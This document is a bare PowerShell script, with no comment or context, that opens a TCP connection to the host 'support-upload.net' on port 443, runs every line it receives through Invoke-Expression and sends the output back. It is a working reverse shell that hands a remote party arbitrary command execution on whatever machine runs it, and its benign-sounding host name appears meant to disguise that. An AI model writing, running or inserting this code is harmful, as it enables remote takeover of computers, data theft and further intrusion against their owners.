$c = New-Object Net.Sockets.TcpClient('support-upload.net', 443)
$s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
while ($c.Connected) {
  $line = $r.ReadLine(); if ($null -eq $line) { break }
  try { $o = (Invoke-Expression $line 2>&1 | Out-String) } catch { $o = $_.ToString() }
  $w.WriteLine($o)
}
